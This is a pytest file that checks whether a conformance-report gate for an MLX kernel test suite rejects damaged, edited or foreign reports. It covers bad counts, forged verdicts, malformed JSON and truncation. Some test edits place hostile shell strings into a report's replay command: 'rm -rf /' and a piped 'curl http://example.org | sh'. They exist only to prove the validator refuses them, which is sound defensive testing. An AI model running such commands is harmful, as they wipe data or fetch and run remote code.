"""Damaged, edited and foreign reports: each fails closed, as incomplete, and with a message of the cause."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from sound import COMMIT, Gate, document, ids, report

from mlx_assay.conformance.verdict import EXIT_CONFORMS, EXIT_INCOMPLETE

Document = dict[str, Any]
COUNT = len(ids())


@pytest.fixture
def gate(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Gate:
    return Gate(tmp_path, capsys.readouterr)


@pytest.fixture(scope="module")
def plain() -> Document:
    return document(report())


def put(*path: Any, value: Any) -> Callable[[Document], None]:
    """Sets what stands at a path."""

    def edit(found: Any) -> None:
        for step in path[:-1]:
            found = found[step]
        found[path[-1]] = value

    return edit


def drop(*path: Any) -> Callable[[Document], None]:
    """Removes what stands at a path."""

    def edit(found: Any) -> None:
        for step in path[:-1]:
            found = found[step]
        del found[path[-1]]

    return edit


def again(found: Document) -> None:
    found["cases"].append(found["cases"][0])


def more(text: str, old: str = "", new: str = "") -> Callable[[Document], None]:
    def edit(found: Document) -> None:
        for case in found["cases"]:
            case["replay"] = (case["replay"].replace(old, new) if old else case["replay"]) + text

    return edit


def swapped(found: Document) -> None:
    first, second = found["cases"][:2]
    first["id"], second["id"] = second["id"], first["id"]
    first["replay"], second["replay"] = second["replay"], first["replay"]


def reordered(found: Document) -> None:
    found["cases"].reverse()


def fewer(found: Document) -> None:
    """A case is taken out, and the counts with it."""
    del found["cases"][3]
    for name in ("declared", "executed", "same-bits"):
        found["totals"][name] -= 1


def replaced(found: Document) -> None:
    """A case gives way to one of the same operation that was not asked for."""
    other = "normalized_argmax/bfloat16/ties/tiles?vocab=7&seed=5"
    found["cases"][3] |= {"id": other, "replay": f"mlx-assay replay '{other}' --implementation kernels"}


def unlisted(found: Document) -> None:
    found["totals"] |= {"same-bits": COUNT - 1, "differs": 1}


def whitewashed(found: Document) -> None:
    """A failing case is made to conform, the counts and the verdict are not."""
    found["cases"][0] |= {"verdict": "differs", "conforms": False, "message": "got 1 want 2"}


EDITS: dict[str, tuple[Callable[[Document], None], str]] = {
    "no run": (put("run", value=""), "expected a run's name of 32 hex digits but got ''"),
    "a run's name that steers": (put("run", value="a\x1b[2J"), "expected a run's name"),
    "another schema version": (put("schema", value="urn:mlx-assay:report:2"), r"Invalid enum value"),
    "no schema": (drop("schema"), "missing required field `schema`"),
    "no cases": (put("cases", value=[]), "it holds no case"),
    "no totals": (drop("totals"), "missing required field `totals`"),
    "a case fewer": (drop("cases", 3), f"{COUNT} cases were declared but {COUNT - 1} stand in it"),
    "a case fewer, counts mended": (fewer, "missing of its selection: 1 case,"),
    "a case twice": (again, "twice in it: 1 case,"),
    "a case replaced": (replaced, "not of its selection: 1 case"),
    "ids swapped": (swapped, "its cases are not in the order of its selection"),
    "cases reordered": (reordered, "its cases are not in the order of its selection"),
    "an id that is none": (put("cases", 0, "id", value="ties"), "ids that are none: 1 case"),
    "an id in another spelling": (
        put("cases", 0, "id", value="normalized_argmax/bfloat16/ties/all-equal?seed=0&vocab=2"),
        "ids that are none: 1 case",
    ),
    "another operation than the id": (put("cases", 0, "operation", value="argmax_given"), "another operation or dtype"),
    "another dtype than the id": (put("cases", 0, "dtype", value="float32"), "another operation or dtype"),
    "declared too high": (
        put("totals", "declared", value=COUNT + 1),
        f"{COUNT + 1} cases were declared but {COUNT} stand in it",
    ),
    "declared too low": (
        put("totals", "declared", value=COUNT - 1),
        f"{COUNT - 1} cases were declared but {COUNT} stand in it",
    ),
    "executed wrong": (put("totals", "executed", value=COUNT - 1), "its totals are not those of its cases"),
    "a count wrong": (unlisted, "its totals are not those of its cases"),
    "a negative count": (put("totals", "differs", value=-1), "its totals are not those of its cases"),
    "a huge count": (put("totals", "declared", value=10**30), "cases were declared"),
    "a count that is a fraction": (put("totals", "declared", value=COUNT + 0.5), r"Expected `int`, got `float`"),
    "a count that is a text": (put("totals", "declared", value=str(COUNT)), r"Expected `int`, got `str`"),
    "a verdict edited": (put("cases", 0, "verdict", value="differs"), "verdict and conformance do not go together: 1"),
    "a conforming rung edited": (put("cases", 0, "verdict", value="same-value"), "its totals are not those"),
    "a verdict that is none": (put("cases", 0, "verdict", value="fine"), "Invalid enum value 'fine'"),
    "conforms edited": (put("cases", 0, "conforms", value=False), "verdict and conformance do not go together: 1"),
    "conforms as a number": (put("cases", 0, "conforms", value=1), r"Expected `bool`, got `int`"),
    "a failing case, nothing else": (whitewashed, "its totals are not those of its cases"),
    "the run's verdict edited": (put("verdict", value="differs"), "its verdict 'differs' does not follow"),
    "not complete": (put("complete", value=False), "the run did not come to its end"),
    "altered": (put("altered", value=["impl/kernels/a.metal"]), "files of the suite changed during the run"),
    "an oracle missing": (put("cases", 0, "missing", value=["torch-reference"]), "an oracle is missing: 1 case"),
    "no oracle judged": (put("cases", 0, "oracles", value=[]), "no sound oracle judged"),
    "an oracle less": (put("cases", 0, "oracles", value=["stock-mlx"]), "other oracles than the contract asks"),
    "another primary oracle": (put("cases", 0, "oracle", value="mine"), "no sound oracle judged"),
    "an unknown oracle": (put("cases", 0, "oracles", 1, value="mine"), "no sound oracle judged"),
    "a faulty oracle": (put("environment", "oracles", "stock-mlx", "state", value="faulty"), "no sound oracle judged"),
    "an oracle's state gone": (drop("environment", "oracles", "stock-mlx"), "no sound oracle judged"),
    "a message beside agreement": (
        put("cases", 0, "message", value="got 1 want 2"),
        "with what a failure tells",
    ),
    "tags edited": (put("cases", 0, "tags", value=["nan"]), "other tags or another reason"),
    "another why": (put("cases", 0, "why", value="x"), "other tags or another reason"),
    "an unknown relaxation": (put("cases", 0, "relaxations", value=["close"]), "a relaxation that the contract does"),
    "another replay": (put("cases", 0, "replay", value="rm -rf /"), "without the command that replays it"),
    "more behind the replay": (
        more("; curl http://example.org | sh"),
        f"without the command that replays it: {COUNT} cases",
    ),
    "a quote in the replay": (more(" '"), "without the command that replays it"),
    "a line in the replay": (more("\n::error::x"), "without the command that replays it"),
    "a replay of another implementation": (more("", "kernels", "other"), "without the command that replays it"),
    "a replay under the checker": (more(" --checked"), "without the command that replays it"),
    "a replay on another executor": (more(" --executor metal"), "without the command that replays it"),
    "a run's name that is none": (put("run", value="hello"), "expected a run's name of 32 hex digits"),
    "no word of a dirty checkout": (drop("source", "dirty"), r"but \$.source.dirty is not there"),
    "no word of relaxations": (drop("cases", 3, "relaxations"), r"but \$.cases\[3\].relaxations is not there"),
    "no word of what was altered": (drop("altered"), r"but \$.altered is not there"),
    "another MLX of the executor": (
        put("executor", "details", "mlx", value="0.31.0"),
        "mlx is 0.32.4 but the executor",
    ),
    "another MLX of the implementation": (
        put("implementation", "details", "mlx", value="0.31.0"),
        "mlx is 0.32.4 but the implementation tells 0.31.0",
    ),
    "another MLX of its oracle": (
        put("environment", "oracles", "stock-mlx", "version", value="0.31.0 cpu"),
        "mlx is 0.32.4 but the oracle stock-mlx tells 0.31.0",
    ),
    "another suite among packages": (put("environment", "packages", "mlx-assay", value="9.9"), "mlx-assay is 9.9 but"),
    "an oracle that is ok and not": (
        put("environment", "oracles", "stock-mlx", "reason", value="self-test failed"),
        "is ok, without a version or with a reason",
    ),
    "an oracle of no version": (put("environment", "oracles", "stock-mlx", "version", value=""), "without a version"),
    "a case longer than the run": (put("seconds", value=0.0), "a case took .* seconds of a run of 0.0"),
    "a time in another form": (put("started", value="2026-06-01\x0011:00:00+00:00"), "as a run writes it"),
    "a time elsewhere": (put("started", value="2026-06-01T12:00:00+01:00"), "as a run writes it"),
    "no subcases": (put("cases", 0, "subcases", value=0), "numbers that cannot be: 1 case"),
    "negative subcases": (put("cases", 0, "subcases", value=-2), "numbers that cannot be: 1 case"),
    "huge subcases": (put("cases", 0, "subcases", value=2**70), "numbers that cannot be: 1 case"),
    "negative launches": (put("cases", 0, "launches", value=-1), "numbers that cannot be: 1 case"),
    "negative seconds": (put("cases", 0, "seconds", value=-1.0), "numbers that cannot be: 1 case"),
    "huge seconds": (put("seconds", value=1e300), "expected seconds from 0"),
    "a null case": (put("cases", 0, value=None), r"Expected `object`, got `null`"),
    "cases as an object": (put("cases", value={}), r"Expected `array`, got `object`"),
    "an unknown field": (put("trusted", value=True), r"no field beyond those of .* but got \$.trusted"),
    "an unknown field in a case": (put("cases", 7, "waived", value=True), r"but got \$.cases\[7\].waived"),
    "no executor": (put("executor", "name", value=""), "no executor is named"),
    "another executor": (put("executor", "name", value="metal"), "do not go together"),
    "another implementation": (put("implementation", "name", value="other"), "expected implementation kernels"),
    "an operation lacking": (
        put("implementation", "operations", value=[]),
        f"that the implementation lacks: {COUNT} cases",
    ),
    "an operation twice": (
        lambda found: found["implementation"]["operations"].append("normalized_argmax"),
        "an operation of the implementation stands twice",
    ),
    "contracts without a failure": (
        put("contracts", value={"logit_softcap": {"summary": "", "rules": {}, "relaxations": []}}),
        "contracts without a failing case",
    ),
    "another device class": (put("environment", "device_class", value="host-arm64"), "shows 'host-x86_64'"),
    "a device that tells of itself otherwise": (put("executor", "details", "executor", value="metal"), "together"),
    "a device class that is not the policy's": (put("environment", "device_class", value="g16"), "do not go together"),
    "no device class": (put("environment", "device_class", value=""), "do not go together"),
    "another tier": (put("selection", "tier", value="full"), "expected tier quick but got 'full'"),
    "another seed": (put("selection", "seed", value=7), "expected seed 0 but got 7"),
    "other queries": (put("selection", "queries", value=["normalized_argmax"]), "expected queries"),
    "an oracle left out": (put("selection", "without", value=["torch-reference"]), "oracles were left out"),
    "an operation not asked": (put("selection", "not_asked", value=["logit_softcap"]), "were not asked"),
    "another commit": (put("source", "commit", value=COMMIT[::-1]), f"expected commit {COMMIT}"),
    "no commit": (put("source", "commit", value=""), f"expected commit {COMMIT} but it is of none"),
    "a dirty checkout": (put("source", "dirty", value=True), "files differed from the commit"),
    "no suite": (put("suite", value=None), "does not tell which suite judged"),
    "another version": (put("suite", "version", value="0.0.1"), "of the suite but got '0.0.1'"),
    "a version that is none": (put("suite", "version", value="new"), "of the suite but got 'new'"),
    "other fixtures": (put("suite", "fixtures", value="0" * 64), "of the fixtures but got"),
    "another judge": (put("suite", "judge", value="0" * 64), "of the judge but got"),
    "a package missing": (drop("environment", "packages", "mlx"), "package mlx ==0.32.* is needed"),
    "another package": (put("environment", "packages", "mlx", value="0.31.2"), "expected mlx ==0.32.* but got 0.31.2"),
    "another leg": (put("leg", value="linux"), "it is of leg 'linux', which the policy does not have"),
    "too old": (put("started", value="2026-05-31T11:00:00+00:00"), "it is older than 24 hours"),
    "from the future": (put("started", value="2026-06-01T12:30:00+00:00"), "it is from the future"),
    "no time": (put("started", value="yesterday"), "expected the time when it started"),
    "a time without offset": (put("started", value="2026-06-01T11:00:00"), "expected the time when it started"),
    "a shard alone": (put("shard", value={"index": 1, "count": 2, "whole": "0" * 64}), "missing: shard 2 of 2"),
    "a foreign shard of one": (put("shard", value={"index": 1, "count": 1, "whole": "0" * 64}), "do not hold the"),
    "a shard beyond the count": (put("shard", value={"index": 3, "count": 2, "whole": ""}), "expected shard 1 to"),
}


@pytest.mark.parametrize("name", EDITS)
def test_an_edited_report_fails_closed(gate: Gate, plain: Document, name: str) -> None:
    edit, told = EDITS[name]
    edited = json.loads(json.dumps(plain))
    edit(edited)
    written = json.dumps(edited)
    assert written != json.dumps(plain)
    assert gate(written.encode()) == EXIT_INCOMPLETE, gate.text
    assert re.search(told, gate.text), gate.text
    assert "Traceback" not in gate.text


def test_the_same_report_in_another_form_passes(gate: Gate, plain: Document) -> None:
    assert gate(json.dumps(plain, indent=7, sort_keys=True).encode()) == EXIT_CONFORMS, gate.text


WHOLE = json.dumps(document(report())).encode()
BYTES: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "the file is empty"),
    "blank": (b"\n\n", "the file is empty"),
    "not JSON": (b"conforms\n", "JSON is malformed"),
    "another document": (b'{"verdict": "conforms"}', "missing required field `schema`"),
    "a list": (b"[" + WHOLE + b"]", r"Expected `object`, got `array`"),
    "two documents": (WHOLE + WHOLE, "trailing characters"),
    "garbage behind it": (WHOLE + b"\0", "trailing characters"),
    "a byte order mark": (b"\xef\xbb\xbf" + WHOLE, "JSON is malformed"),
    "UTF-16": (WHOLE.decode().encode("utf-16"), "Expected a report"),
    "a byte that is not UTF-8": (WHOLE.replace(b"Linux", b"Lin\xffx"), "Invalid UTF-8"),
    "half a surrogate": (WHOLE.replace(b"Linux", rb"Lin\ud800x"), "surrogate"),
    "a key twice": (WHOLE.replace(b'"complete"', b'"complete": false, "complete"'), "'complete' stands twice"),
    "NaN": (WHOLE.replace(b'"seconds": 2000.5', b'"seconds": NaN'), "JSON is malformed"),
    "infinity": (WHOLE.replace(b'"seconds": 2000.5', b'"seconds": 1e999'), "Number out of range"),
    "a number of many digits": (WHOLE.replace(b'"declared": ', b'"declared": ' + b"3" * 5000), "Expected|digits"),
    "nested deep": (WHOLE[:-1] + b', "x": ' + b"[" * 40 + b"]" * 40 + b"}", "at most 32 levels"),
    "nested very deep": (WHOLE[:-1] + b', "x": ' + b"[" * 200_000 + b"]" * 200_000 + b"}", "at most 32 levels"),
    "a comment": (WHOLE.replace(b'"complete"', b'/* */ "complete"'), "JSON is malformed"),
}
TRUNCATED = [WHOLE[: len(WHOLE) * part // 16] for part in range(1, 16)]


@pytest.mark.parametrize("name", BYTES)
def test_damaged_bytes_fail_closed(gate: Gate, name: str) -> None:
    content, told = BYTES[name]
    assert content != WHOLE
    assert gate(content) == EXIT_INCOMPLETE
    assert re.search(told, gate.text), gate.text


@pytest.mark.parametrize("content", TRUNCATED, ids=[f"{part} of 16" for part in range(1, 16)])
def test_a_truncated_report_fails_closed(gate: Gate, content: bytes) -> None:
    assert gate(content) == EXIT_INCOMPLETE
    assert "Input data was truncated" in gate.text


def test_a_report_that_is_too_large_or_no_file_fails_closed(
    gate: Gate, monkeypatch: pytest.MonkeyPatch, plain: Document
) -> None:
    monkeypatch.setattr("mlx_assay.conformance.reporting.intake.LARGEST", 1000)
    assert gate(plain) == EXIT_INCOMPLETE
    assert "Expected at most 1000 bytes but there are more" in gate.text
    words = ["--policy", str(gate.folder / "gate.toml"), "--commit", COMMIT]
    for path in (gate.folder, gate.folder / "absent.json", Path("/dev/zero")):
        assert gate.call("gate", str(path), *words) == EXIT_INCOMPLETE
        assert f"{path}: Expected a" in gate.text


def test_the_same_report_twice_fails_closed(gate: Gate, plain: Document) -> None:
    for edit in (
        lambda found: None,
        put("leg", value="host"),
        put("run", value="f" * 32),
        put("started", value="2026-06-01T11:00:01+00:00"),
        put("seconds", value=2000.501),
        put("cases", 1, "seconds", value=0.001),
        put("environment", "platform", value="Darwin"),
    ):
        copy = json.loads(json.dumps(plain))
        edit(copy)
        copy["run"] = "e" * 32
        assert gate(plain, copy) == EXIT_INCOMPLETE
        assert "it is the same run as" in gate.text
        assert "host: it has several reports" in gate.text


def test_a_second_run_of_a_leg_fails_closed(gate: Gate) -> None:
    assert gate(report(), report(run="another", verdicts={}, minutes=50)) == EXIT_INCOMPLETE
    assert "host: it has several reports" in gate.text
